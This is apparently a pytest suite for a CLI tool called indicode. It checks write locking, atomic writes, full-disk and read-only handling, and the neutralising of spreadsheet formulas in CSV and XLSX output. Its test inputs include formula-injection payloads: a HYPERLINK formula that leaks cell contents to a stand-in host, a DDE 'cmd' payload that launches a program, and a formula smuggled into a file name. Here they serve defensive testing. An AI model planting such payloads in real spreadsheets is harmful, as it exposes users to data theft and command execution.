"""Writing safely: one lock for every catalogue writer, outputs that never execute, temporaries
swept, a write that cannot happen is one line and exit 3 with the old file intact."""
import csv
import errno
import os
import re
import subprocess
import sys
import time
import zipfile

import openpyxl
import pytest
from typer.testing import CliRunner

from conftest import ROOT, SEED
from indicode.catalogue import build as building
from indicode.catalogue.export import cell_text, original_text
from indicode.catalogue.files import TMP_TAG, BusyError, atomic_path, sweep_temporaries
from indicode.catalogue.locking import lock_timeout
from indicode.catalogue.lookup import Catalogue
from indicode.cli import app
from indicode.workspace import NewDecision, Origin, Workspace
from indicode.workspace.store import default_location

pytestmark = pytest.mark.usefixtures("shared_vector_cache")  # its commands build Linkers of their own

runner = CliRunner()
FORMULAS = ['=HYPERLINK("http://x.example/?leak="&A1,"y")', "=1+1", "+1+1", "-2+3", "@SUM(A1:A2)",
            "=cmd|' /C calc'!A0", "\t=1+1", "'quoted"]


def _one_error(stderr: str) -> bool:
    """Exactly one `error:` line, no traceback."""
    return "Traceback" not in stderr and sum(line.startswith("error: ") for line in stderr.splitlines()) == 1


def _env(**extra):
    return {**os.environ, "PYTHONPATH": str(ROOT / "tests"), **extra}


def _hold_lock(path, flag, seconds):
    """A second process that holds `path`'s write lock for `seconds`; returns once it holds it."""
    code = ("import sys, time, pathlib\n"
            "from indicode.catalogue.locking import write_lock\n"
            "with write_lock(pathlib.Path(sys.argv[1])):\n"
            "    pathlib.Path(sys.argv[2]).write_text('held')\n"
            "    time.sleep(float(sys.argv[3]))\n")
    p = subprocess.Popen([sys.executable, "-c", code, str(path), str(flag), str(seconds)], env=_env())
    while not flag.exists():
        assert p.poll() is None, "lock holder died"
        time.sleep(0.02)
    return p


def _hold_workspace(flag, seconds):
    """A second process that holds the default workspace's write lock (SQLite's, as any writer takes
    it) for `seconds`; returns once it holds it."""
    code = ("import sys, time, pathlib, sqlite3\n"
            "con = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
            "con.execute('BEGIN IMMEDIATE')\n"
            "pathlib.Path(sys.argv[2]).write_text('held')\n"
            "time.sleep(float(sys.argv[3]))\n")
    Workspace.open().close()  # the file exists, with its tables
    p = subprocess.Popen([sys.executable, "-c", code, default_location(), str(flag), str(seconds)], env=_env())
    while not flag.exists():
        assert p.poll() is None, "lock holder died"
        time.sleep(0.02)
    return p


def _decide(text="验收合格率", code="112000287", timeout=None):
    return Workspace.open().record([NewDecision(text, "12", code, "t")], Catalogue.load(), timeout=timeout)


# ---------------------------------------------------------------- one writer at a time

@pytest.mark.slow
def test_busy_catalogue_and_workspace_are_one_line_and_exit_3(tmp_catalogue, tmp_path, monkeypatch):
    monkeypatch.setenv("INDICODE_LOCK_TIMEOUT", "0.3")
    before = tmp_catalogue.read_bytes()
    holder = _hold_lock(tmp_catalogue, tmp_path / "held", 20)
    try:
        r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(tmp_catalogue)])
        assert r.exit_code == 3 and _one_error(r.stderr) and "catalogue busy" in r.stderr, r.output
    finally:
        holder.kill()
        holder.wait()
    assert tmp_catalogue.read_bytes() == before
    reviewed = tmp_path / "r.csv"
    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
    first = _decide("先前", "112000272").recorded[0]
    holder = _hold_workspace(tmp_path / "held-ws", 20)
    try:
        for args in (["learn", reviewed], ["learned", "remove", str(first.id)]):
            r = runner.invoke(app, [str(a) for a in args])
            assert r.exit_code == 3, (args, r.output)
            assert _one_error(r.stderr) and "workspace busy" in r.stderr
        with pytest.raises(BusyError):
            _decide(timeout=0.2)
    finally:
        holder.kill()
        holder.wait()
    assert [e.id for e in Workspace.open().log()] == [first.id]
    # the lock goes with its holder: the next writer gets in
    assert _decide().recorded


def test_sqlite_lock_held_by_another_program_is_busy_not_damage(monkeypatch, tmp_path):
    """A program holding SQLite's own lock (a DB browser's open transaction): a writer waits at most
    its timeout, then "workspace busy" (exit 3), never "damaged"; so does a command that opens the
    workspace meanwhile."""
    import sqlite3

    monkeypatch.setenv("INDICODE_LOCK_TIMEOUT", "0.3")
    ws = Workspace.open()
    other = sqlite3.connect(default_location(), isolation_level=None)
    other.execute("BEGIN EXCLUSIVE")
    try:
        t0 = time.monotonic()
        with pytest.raises(BusyError, match="workspace busy"):
            ws.record([NewDecision("验收合格率", "12", "112000287", "t")], Catalogue.load(), timeout=0.2)
        with pytest.raises(BusyError, match="workspace busy"):
            Workspace.open()
        assert time.monotonic() - t0 < 5  # each waited its timeout, not the 30 s default
        reviewed = tmp_path / "r.csv"
        reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
        r = runner.invoke(app, ["learn", str(reviewed)])
        assert r.exit_code == 3 and _one_error(r.stderr) and "workspace busy" in r.stderr, r.output
    finally:
        other.execute("ROLLBACK")
        other.close()
    assert Workspace.open().log() == []
    assert _decide(timeout=0.2).recorded


@pytest.mark.parametrize("value,seconds", [("0.5", 0.5), ("0", 0.0), ("nan", 30.0), ("inf", 30.0), ("-1", 30.0),
                                           ("soon", 30.0)])
def test_lock_timeout_setting_is_a_finite_wait(monkeypatch, value, seconds):
    monkeypatch.setenv("INDICODE_LOCK_TIMEOUT", value)
    assert lock_timeout() == seconds


@pytest.mark.slow
def test_writers_wait_their_turn(tmp_path):
    """A learner that finds the workspace's lock taken waits (bounded), then writes."""
    holder = _hold_workspace(tmp_path / "held", 1.0)
    t0 = time.monotonic()
    _decide("等一等")
    waited = time.monotonic() - t0
    holder.wait()
    assert waited > 0.3  # it did wait for the holder rather than write beside it
    assert [e.text for e in Workspace.open().in_force()] == ["等一等"]


def test_a_decision_is_stored_field_by_field(tmp_catalogue):
    """Each field of a decision lands in the stored event field of the same name: nothing changes
    places on the way into the workspace."""
    d = NewDecision(text="会务保障到位率", level2="12", code="112000272", reviewer="王",
                    origin=Origin("workbook", "r.csv", "按文本审核", 2), comment="见会议纪要")
    cat = Catalogue.load(tmp_catalogue)
    Workspace.open().record([d], cat)
    stored = Workspace.open().in_force()[-1]
    assert (stored.text, stored.subject.level2, stored.code, stored.reviewer, stored.origin, stored.comment) == (
        d.text, d.level2, d.code, d.reviewer, d.origin, d.comment)
    assert stored.catalogue == cat.fingerprint and stored.name == "任务达标完成率" and stored.at.startswith("20")


def test_the_file_lock_lives_in_one_module():
    """The lock library is used only behind `catalogue/locking.py` (the workspace's SQLite file has its
    own lock), so that replacing it touches one small module; and no module uses fcntl itself."""
    def users(word):
        return sorted(p.relative_to(ROOT).as_posix() for folder in ("catalogue", "indicode", "matcher")
                      for p in (ROOT / folder).rglob("*.py") if re.search(word, p.read_text("utf-8")))
    assert users(r"\bfilelock\b") == ["catalogue/locking.py"]
    assert users(r"\b(fcntl|flock)\b") == []


# ---------------------------------------------------------------- outputs that never execute

def _sheet_xml(path, sheet=1):
    with zipfile.ZipFile(path) as z:
        return z.read(f"xl/worksheets/sheet{sheet}.xml").decode()


def _formula_doc(tmp_path):
    doc = tmp_path / "evil.csv"
    with open(doc, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["三级指标", "二级指标", "目标值", "=备注"])
        for i, f in enumerate(FORMULAS):
            w.writerow([f"{f}", "12", f, f])
            w.writerow([f"验收合格率{i}", "12", f, f])
    return doc


def test_cell_text_rule_round_trips():
    for v in FORMULAS + ["普通", "", "100%", "'plain", "''x"]:
        assert original_text(cell_text(v)) == v
    assert cell_text("=1+1") == "'=1+1" and cell_text("-5%") == "'-5%" and cell_text("普通") == "普通"
    assert cell_text(7) == 7


def test_extract_writes_no_formula_and_no_risky_csv_cell(tmp_path):
    doc = _formula_doc(tmp_path)
    x, c = tmp_path / "rows.xlsx", tmp_path / "rows.csv"
    for out in (x, c):
        r = runner.invoke(app, ["extract", str(doc), "-o", str(out)])
        assert r.exit_code == 0, r.output
    xml = _sheet_xml(x)
    assert "<f>" not in xml and "<f " not in xml
    wb = openpyxl.load_workbook(x)
    values = {cell.value for row in wb.active.iter_rows() for cell in row}
    assert set(FORMULAS) - {"\t=1+1"} <= values  # the text itself, unchanged
    assert all(cell.data_type != "f" for row in wb.active.iter_rows() for cell in row)
    with open(c, encoding="utf-8-sig", newline="") as fh:
        cells = [v for row in csv.reader(fh) for v in row]
    assert cells and not [v for v in cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in cells


def test_catalogue_export_and_normalize_write_no_formula(tmp_path, linker):
    from indicode.bulk import normalize
    from indicode.review_sheet import write_result

    cat = tmp_path / "evil.sqlite"
    doc = tmp_path / "coded.csv"
    doc.write_text("三级指标,二级指标\n112000272-=HYPERLINK(\"http://x\"),12\n112000287-@SUM(1),12\n", encoding="utf-8")
    assert runner.invoke(app, ["catalogue", "build", str(doc), "-o", str(cat)]).exit_code == 0
    out = tmp_path / "codes.xlsx"
    assert runner.invoke(app, ["catalogue", "export", "-c", str(cat), "-o", str(out)]).exit_code == 0
    assert "<f>" not in _sheet_xml(out)
    assert runner.invoke(app, ["catalogue", "export", "-c", str(cat), "-o", str(tmp_path / "codes.csv")]).exit_code == 0
    with open(tmp_path / "codes.csv", encoding="utf-8-sig", newline="") as fh:
        assert not [v for row in csv.reader(fh) for v in row if v[:1] in ("=", "+", "@")]
    # normalize: the rows, the distinct sheet and the summary (whose file names come from the user)
    evil = tmp_path / "=HYPERLINK(1).csv"
    evil.write_bytes(_formula_doc(tmp_path).read_bytes())
    res = normalize([evil], linker)
    wb_path = tmp_path / "n.xlsx"
    write_result(wb_path, res, {"catalogue": "=1+1"})
    for i in range(1, 6):
        assert "<f>" not in _sheet_xml(wb_path, i)
    summary = openpyxl.load_workbook(wb_path)["汇总"]
    assert "=HYPERLINK(1).csv" in {c.value for row in summary.iter_rows() for c in row}
    write_result(tmp_path / "n.csv", res, {})
    with open(tmp_path / "n.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert not [v for row in rows for v in row if v[:1] in ("=", "+", "@", "-")]
    assert "'=备注" in rows[0]  # a header from the input is a cell too


# ---------------------------------------------------------------- temporaries, read-only, full disk

def test_temporaries_of_a_killed_writer_are_swept(tmp_path):
    dead = subprocess.run([sys.executable, "-c", "import os; print(os.getpid())"], capture_output=True, text=True)
    pid = int(dead.stdout)
    stale = tmp_path / f".out.xlsx{TMP_TAG}{pid}-deadbeef"
    stale.write_bytes(b"half")
    journal = tmp_path / f".c.sqlite{TMP_TAG}{pid}-cafe0123-journal"
    journal.write_bytes(b"half")
    mine = tmp_path / f".live.csv{TMP_TAG}{os.getpid()}-00000000"
    mine.write_bytes(b"being written")
    other = tmp_path / ".someone-elses-file"
    other.write_bytes(b"keep")
    with atomic_path(tmp_path / "new.csv") as tmp:
        assert TMP_TAG in tmp.name and tmp.name.startswith(".new.csv")
        tmp.write_text("a\n")
    assert not stale.exists() and not journal.exists()
    assert mine.exists() and other.exists() and (tmp_path / "new.csv").read_text() == "a\n"
    assert sweep_temporaries(tmp_path) == []


def test_a_real_kill_leaves_a_temporary_that_the_next_write_removes(tmp_path):
    code = ("import sys, time, pathlib\n"
            "from indicode.catalogue.files import atomic_path\n"
            "with atomic_path(pathlib.Path(sys.argv[1])) as tmp:\n"
            "    tmp.write_text('partial')\n"
            "    pathlib.Path(sys.argv[2]).write_text('ready')\n"
            "    time.sleep(60)\n")
    flag = tmp_path / "flag"
    out = tmp_path / "out" / "rows.csv"
    out.parent.mkdir()
    p = subprocess.Popen([sys.executable, "-c", code, str(out), str(flag)], env=_env())
    while not flag.exists():
        time.sleep(0.02)
    p.kill()
    p.wait()
    left = [f.name for f in out.parent.iterdir()]
    assert len(left) == 1 and TMP_TAG in left[0] and not out.exists()
    r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(out)])
    assert r.exit_code == 0
    assert [f.name for f in out.parent.iterdir()] == ["rows.csv"]


def _read_only(path):
    path.chmod(0o444 if path.is_file() else 0o555)


@pytest.mark.parametrize("suffix", ["csv", "xlsx", "jsonl"])
def test_read_only_output_file_is_refused_and_kept(tmp_path, suffix):
    out = tmp_path / f"rows.{suffix}"
    out.write_text("precious")
    _read_only(out)
    r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(out)])
    assert r.exit_code == 3 and "read-only" in r.stderr and _one_error(r.stderr)
    assert out.read_text() == "precious"
    out.chmod(0o644)


def test_read_only_folder_is_refused(tmp_path):
    folder = tmp_path / "ro"
    folder.mkdir()
    _read_only(folder)
    try:
        r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(folder / "c.sqlite")])
        assert r.exit_code == 3 and "read-only" in r.stderr
        r = runner.invoke(app, ["extract", str(SEED["002"]), "-o", str(folder / "rows.csv")])
        assert r.exit_code == 3 and "read-only" in r.stderr
        assert list(folder.iterdir()) == []
    finally:
        folder.chmod(0o755)


def test_read_only_catalogue_is_used_but_never_written(tmp_catalogue, tmp_path):
    """A catalogue is reference data: learning against a read-only one works (the decisions go to the
    workspace); rebuilding it is refused."""
    _read_only(tmp_catalogue)
    before = tmp_catalogue.read_bytes()
    assert runner.invoke(app, ["lookup", "112000272", "-c", str(tmp_catalogue)]).exit_code == 0
    reviewed = tmp_path / "r.csv"
    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
    assert runner.invoke(app, ["learn", str(reviewed), "-c", str(tmp_catalogue)]).exit_code == 0
    r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(tmp_catalogue)])
    assert r.exit_code == 3 and "read-only" in r.stderr and _one_error(r.stderr), r.output
    assert tmp_catalogue.read_bytes() == before
    tmp_catalogue.chmod(0o644)


def test_read_only_workspace_is_read_but_not_written(tmp_path):
    _decide()
    path = tmp_path / "data" / "workspace.sqlite"
    _read_only(path)
    before = path.read_bytes()
    reviewed = tmp_path / "r.csv"
    reviewed.write_text("indicator,class,reviewer_code\n任务达标完成率,12,112000272\n", encoding="utf-8")
    assert runner.invoke(app, ["learned", "list"]).exit_code == 0
    for args in (["learn", reviewed], ["learned", "remove", "1"]):
        r = runner.invoke(app, [str(a) for a in args])
        assert r.exit_code == 3 and _one_error(r.stderr) and "cannot write" in r.stderr, (args, r.output)
    assert path.read_bytes() == before
    path.chmod(0o644)


def _disk_full(*a, **kw):
    raise OSError(errno.ENOSPC, "No space left on device")


@pytest.mark.parametrize("patch,args", [
    ("xlsxwriter.Workbook.close", ["extract", SEED["002"], "-o", "OUT/rows.xlsx"]),
    ("csv.writer", ["extract", SEED["002"], "-o", "OUT/rows.csv"]),  # streamed (write_records)
    ("pandas.DataFrame.to_csv", ["catalogue", "export", "-o", "OUT/codes.csv"]),
    ("xlsxwriter.Workbook.close", ["catalogue", "export", "-o", "OUT/codes.xlsx"]),
    ("pandas.DataFrame.to_csv", ["decisions", "export", "-o", "OUT/log.csv"]),
])
def test_full_disk_is_one_line_exit_3_and_nothing_half_written(tmp_path, monkeypatch, patch, args):
    import importlib

    out = tmp_path / "out"
    out.mkdir()
    monkeypatch.setenv("INDICODE_DATA_DIR", str(tmp_path / "data"))
    reviewed = tmp_path / "r.csv"
    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
    mod, _, attr = patch.rpartition(".")
    try:
        target = importlib.import_module(mod)
        monkeypatch.setattr(target, attr, _disk_full)
    except ModuleNotFoundError:
        owner, cls = mod.rsplit(".", 1)
        monkeypatch.setattr(getattr(importlib.import_module(owner), cls), attr, _disk_full)
    argv = [str(a).replace("OUT", str(out)).replace("REVIEWED", str(reviewed)) for a in args]
    r = runner.invoke(app, argv)
    assert r.exit_code == 3, r.output
    assert "No space left on device" in r.stderr and _one_error(r.stderr)
    assert list(out.iterdir()) == []
    assert not (tmp_path / "data" / "catalogue.sqlite").exists()  # no copy of the bundled catalogue, ever


def test_sqlite_full_disk_in_learn_and_build(tmp_catalogue, tmp_path, monkeypatch):
    """SQLite reports a full disk as an OperationalError; both writers turn it into exit 3."""
    import sqlite3

    real = sqlite3.connect

    class FullConnection:
        def __init__(self, con):
            self.con = con

        def execute(self, sql, *a):
            if sql.lstrip().upper().startswith(("INSERT", "DELETE", "UPDATE", "CREATE")):
                raise sqlite3.OperationalError("database or disk is full")
            return self.con.execute(sql, *a)

        def __getattr__(self, name):
            return getattr(self.con, name)

        def __enter__(self):
            return self.con.__enter__()

        def __exit__(self, *exc):
            return self.con.__exit__(*exc)

    before = tmp_catalogue.read_bytes()
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **kw: FullConnection(real(*a, **kw)))
    reviewed = tmp_path / "r.csv"
    reviewed.write_text("indicator,class,reviewer_code\n验收合格率,12,112000287\n", encoding="utf-8")
    r = runner.invoke(app, ["learn", str(reviewed), "-c", str(tmp_catalogue)])
    assert r.exit_code == 3 and "disk is full" in r.stderr, r.output
    r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(tmp_catalogue)])
    assert r.exit_code == 3 and "disk is full" in r.stderr, r.output
    monkeypatch.setattr(sqlite3, "connect", real)  # not undo(): that would also drop the test's own data folder
    assert tmp_catalogue.read_bytes() == before
    assert [f.name for f in tmp_path.iterdir() if TMP_TAG in f.name] == []
    assert Workspace.open().log() == []


@pytest.mark.slow
def test_file_size_limit_is_a_real_full_disk(tmp_path):
    """A real process whose writes fail in the kernel (RLIMIT_FSIZE: EFBIG, as a full disk would
    fail them): one line, exit 3, no output and no temporary left."""
    import resource

    def limit():
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    for out in (tmp_path / "c.sqlite", tmp_path / "rows.xlsx"):
        cmd = ["catalogue", "build", str(SEED["000"]), "-o", str(out)] if out.suffix == ".sqlite" else \
            ["extract", str(SEED["003"]), "-o", str(out)]
        p = subprocess.run([sys.executable, "-m", "indicode.cli", *cmd], capture_output=True, text=True,
                           preexec_fn=limit, env=_env(INDICODE_CACHE_DIR=str(tmp_path / "cache")))
        assert p.returncode == 3, p.stderr
        assert "Traceback" not in p.stderr and _one_error(p.stderr) and str(out) in p.stderr
        assert not out.exists()
        assert [f.name for f in tmp_path.iterdir() if TMP_TAG in f.name] == []



def test_a_writer_killed_mid_transaction_is_rolled_back_on_open(tmp_catalogue, tmp_path):
    """kill -9 during a learn-like transaction leaves a hot journal; the next open rolls it back
    (the catalogue as before, whole) rather than calling the file damaged."""
    code = ("import sqlite3, sys, time\n"
            "con = sqlite3.connect(sys.argv[1], isolation_level=None)\n"
            "con.execute('PRAGMA cache_size=1')\n"
            "con.execute('BEGIN')\n"
            "for i in range(3000):\n"
            "    con.execute('INSERT INTO learned (text, level2, code, reviewer, decided_at, source) '"
            "'VALUES (?,?,?,?,?,?)', (f't{i}' * 20, '12', '112000272', 'x', 'now', 's'))\n"
            "print('ready', flush=True)\n"
            "time.sleep(60)\n")
    p = subprocess.Popen([sys.executable, "-c", code, str(tmp_catalogue)], stdout=subprocess.PIPE, text=True)
    assert p.stdout.readline().strip() == "ready"
    p.kill()
    p.wait()
    assert (tmp_path / "catalogue.sqlite-journal").exists()
    cat = Catalogue.load(tmp_catalogue)
    assert cat.learned == [] and len(cat) == 123
    assert not (tmp_path / "catalogue.sqlite-journal").exists()


def test_interrupt_is_exit_130_and_nothing_written(tmp_path, monkeypatch):
    def interrupted(*a, **kw):
        raise KeyboardInterrupt

    monkeypatch.setattr(building, "write_catalogue", interrupted)
    out = tmp_path / "c.sqlite"
    r = runner.invoke(app, ["catalogue", "build", str(SEED["000"]), "-o", str(out)])
    assert r.exit_code == 130 and _one_error(r.stderr) and "interrupted" in r.stderr
    assert not out.exists()


# ---------------------------------------------------------------- the rule, on any text

from hypothesis import given, settings  # noqa: E402
from hypothesis import strategies as st  # noqa: E402

RISKY_TEXT = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n ,\"A1中文%|!()") + ["\x00", "\x07"]), max_size=12)


@pytest.mark.slow  # 150 generated tables, each written as CSV and XLSX and read back: about 2 s
@settings(max_examples=150, deadline=None)
@given(st.lists(st.lists(RISKY_TEXT, min_size=2, max_size=2), min_size=1, max_size=6))
def test_any_text_round_trips_and_never_runs(tmp_path_factory, cells):
    """Whatever the cells hold: the CSV never starts a cell with a formula character and gives the
    text back by the documented rule; the workbook holds it as text (no <f>), unchanged but for the
    characters XML cannot hold."""
    import pandas as pd

    from indicode.catalogue.export import write_frames

    tmp = tmp_path_factory.mktemp("prop")
    df = pd.DataFrame(cells, columns=["a", "=b"])
    write_frames(tmp / "o.csv", {"rows": df})
    with open(tmp / "o.csv", encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))
    assert not [v for row in back for v in row if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert [[original_text(v) for v in row] for row in back[1:]] == cells
    write_frames(tmp / "o.xlsx", {"rows": df})
    assert "<f>" not in _sheet_xml(tmp / "o.xlsx")
    ws = openpyxl.load_workbook(tmp / "o.xlsx").active
    got = [[c.value or "" for c in row] for row in ws.iter_rows(min_row=2, max_col=2)]
    # XML cannot hold NUL or BEL (U+FFFD instead); a CR is stored as OOXML's _x000D_, which Excel reads as CR
    clean = [[v.replace("\x00", "\ufffd").replace("\x07", "\ufffd").replace("\r", "_x000D_") for v in row]
             for row in cells]
    assert got == clean


def test_learn_reads_back_escaped_csv_cells(tmp_catalogue, tmp_path):
    """A reviewer fills in the CSV indicode wrote: texts that start with a formula character come
    back without the apostrophe the CSV gave them."""
    import pandas as pd

    from indicode.catalogue.export import write_frames

    df = pd.DataFrame({"indicator": ["=按时完成率", "-年度目标完成率", "'引号开头"], "class": ["13", "11", "11"],
                       "code": ["", "", ""], "reviewer_code": ["113000297", "NIL", "NIL"]})
    out = tmp_path / "reviewed.csv"
    write_frames(out, {"rows": df})
    assert "'=按时完成率" in out.read_text(encoding="utf-8-sig")
    r = runner.invoke(app, ["learn", str(out), "-c", str(tmp_catalogue)])
    assert r.exit_code == 0, r.output
    assert {(e.text, e.code) for e in Workspace.open().in_force()} == {
        ("=按时完成率", "113000297"), ("-年度目标完成率", "NIL"), ("'引号开头", "NIL")}
